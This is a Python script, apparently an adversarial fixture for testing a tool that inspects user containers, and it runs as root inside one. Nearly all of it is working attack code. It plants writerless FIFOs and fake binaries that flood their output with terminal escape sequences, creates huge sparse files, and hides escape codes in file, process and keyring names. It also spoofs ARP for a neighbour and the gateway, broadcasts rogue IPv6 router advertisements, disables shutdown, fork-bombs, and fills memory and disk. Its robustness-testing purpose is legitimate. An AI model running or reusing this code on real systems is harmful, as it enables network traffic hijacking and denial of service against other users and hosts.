"""What root of a user's container can do to whoever looks at it, all at once.

Runs inside, as `python3 attack.py VICTIM GATEWAY`, on Python's own library. All of it stays until
a stop; DONE is there once all has begun.
"""

from __future__ import annotations

import ctypes
import os
import shutil
import socket
import stat
import struct
import subprocess
import sys
import time
from pathlib import Path

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mowned\u202e"
(HOME,) = Path("/home").glob("lh-*")
PIPES = (
    Path("/usr/lib/aarch64-linux-gnu"),
    Path("/usr/lib64/nvidia"),
    Path("/etc/apt/auth.conf"),
    HOME / ".ssh" / "authorized_keys",
)
LIBRARIES = Path("/usr/lib/x86_64-linux-gnu")
PROGRAMS = (
    "cat chpasswd dpkg-query env false getent id ip journalctl loginctl ls mktemp nvidia-smi ps "
    "python3 rm sh sleep ss stat systemctl test timeout true usermod"
)
DONE = Path("/run/at-it")  # its disk will be full
LIAR = "#!/bin/bash\nwhile :; do printf '%0999d\\e[2Jowned\\n' 0; done\n"


def hang_whoever_opens() -> None:
    """A FIFO without a writer in place of what is looked at."""
    for path in PIPES:
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.exists() and not stat.S_ISFIFO(path.stat().st_mode):
            shutil.rmtree(path) if path.is_dir() else path.unlink()
        if not path.exists():
            os.mkfifo(path)


def lie_to_whoever_asks() -> None:
    """Programs of their own before the system's: endless output, and they never end."""
    for name in PROGRAMS.split():
        program = Path("/usr/local/sbin", name)
        program.write_text(LIAR)
        program.chmod(0o755)


def grow_without_bounds() -> None:
    """300 GB that take no room, where lists of packages, accounts and keys are read."""
    for place in ("/var/lib/dpkg/status", str(HOME / ".ssh" / "authorized_keys2"), "/etc/motd"):
        Path(place).parent.mkdir(parents=True, exist_ok=True)
        with Path(place).open("ab") as file:
            file.truncate(300 << 30)
    many = LIBRARIES / "many"
    many.mkdir(exist_ok=True)
    for number in range(20_000):
        (many / f"libnvidia-ml.so.{number}").touch()


def paint() -> None:
    """Names with escape sequences: of files, processes and the host."""
    for name in (f"libnvidia-ml.so.535{ESCAPES}", f"libcuda.so.1{ESCAPES}\n2"):
        (LIBRARIES / name).touch()
    child = os.fork()
    if not child:
        ctypes.CDLL(None).prctl(15, ESCAPES.encode()[:15], 0, 0, 0)
        os.execv("/bin/sleep", [ESCAPES, "100000"])  # noqa: S606 - its name is the point


def keep_keys() -> None:
    """As `keyctl add user`; 248 is add_key on x86-64."""
    add = ctypes.CDLL(None, use_errno=True).syscall
    add(248, b"user", f"mallory{ESCAPES}".encode(), b"secret", 6, -4)


def take_addresses(victim: str, gateway: str) -> None:
    """Those of a neighbour and of the router, and tell everybody so for as long as it runs."""
    for address in (victim, gateway):
        subprocess.run(
            ["/usr/sbin/ip", "address", "add", f"{address}/32", "dev", "eth0"], check=False
        )
    mac = Path("/sys/class/net/eth0/address").read_text().strip()
    hardware = bytes.fromhex(mac.replace(":", ""))
    if os.fork():
        return
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind(("eth0", 0))
    while True:
        for address in (victim, gateway):
            ip = socket.inet_aton(address)
            arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, hardware, ip, b"\xff" * 6, ip)
            raw.send(b"\xff" * 6 + hardware + b"\x08\x06" + arp)
        raw.send(_advertisement(hardware))
        time.sleep(0.5)


def _advertisement(hardware: bytes) -> bytes:
    """Of a router, to all nodes, with a prefix that everybody may take (RFC 4861)."""
    source = bytes.fromhex("fe80") + b"\0" * 6 + hardware[:3] + b"\xff\xfe" + hardware[3:]
    nodes = bytes.fromhex("ff02" + "0" * 27 + "1")
    prefix = struct.pack(
        "!BBBBIII16s", 3, 4, 64, 0xC0, 3600, 3600, 0, bytes.fromhex("20010db8") + b"\0" * 12
    )
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + prefix
    pseudo = source + nodes + struct.pack("!II", len(body), 58) + body
    total = sum(struct.unpack(f"!{len(pseudo) // 2}H", pseudo))
    total = (total >> 16) + (total & 0xFFFF)
    total = ~(total + (total >> 16)) & 0xFFFF
    body = body[:2] + struct.pack("!H", total) + body[4:]
    ipv6 = struct.pack("!IHBB16s16s", 6 << 28, len(body), 58, 255, source, nodes)
    return bytes.fromhex("333300000001") + hardware + b"\x86\xdd" + ipv6 + body


def refuse_to_end() -> None:
    """The signal for a shutdown is answered by nothing."""
    for unit in ("sigpwr.target", "halt.target", "poweroff.target"):
        link = Path("/etc/systemd/system", unit)
        link.unlink(missing_ok=True)
        link.symlink_to("/dev/null")
    subprocess.run(["/usr/bin/systemctl", "daemon-reload"], check=False)


def fill() -> None:
    """Memory and processes as far as its limits let it, then the disk up to its quota."""
    for _ in range(100):
        if not os.fork():
            time.sleep(100_000)
            os._exit(0)
    if not os.fork():
        held: list[bytes] = []
        while True:
            held.append(b"%d" % len(held) * (1 << 19))
    with Path("/var/tmp/full").open("wb") as file:
        try:
            while True:
                file.write(b"\0" * (1 << 20))
        except OSError:
            pass


if __name__ == "__main__":
    hang_whoever_opens()
    paint()
    keep_keys()
    take_addresses(*sys.argv[1:3])
    refuse_to_end()
    grow_without_bounds()
    lie_to_whoever_asks()
    fill()
    DONE.touch()
